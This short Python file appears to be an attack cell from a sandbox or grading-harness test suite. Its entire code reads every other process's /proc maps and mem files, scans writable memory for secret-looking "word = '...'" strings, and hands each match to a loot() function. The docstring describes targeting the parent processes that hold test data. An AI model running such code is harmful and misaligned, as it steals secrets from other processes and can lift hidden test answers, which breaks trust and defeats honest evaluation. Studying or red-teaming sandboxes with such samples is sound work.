"""The memory of the processes above is read, where the tests lie ready to be sent."""

CATEGORY = "files"
CELLS = {
    "constant": """
import os, re

for pid in filter(str.isdigit, os.listdir("/proc")):
    if int(pid) == os.getpid():
        continue
    try:
        with open(f"/proc/{pid}/maps") as maps, open(f"/proc/{pid}/mem", "rb", 0) as memory:
            for line in maps:
                first, last, kind = re.match(r"(\\w+)-(\\w+) (\\S+)", line).groups()
                size = int(last, 16) - int(first, 16)
                if kind.startswith("rw") and size < 2**26:
                    memory.seek(int(first, 16))
                    for found in re.findall(rb"word = '[a-z0-9-]{9,40}", memory.read(size)):
                        loot(found.decode())
    except (OSError, OverflowError):
        pass
"""
}
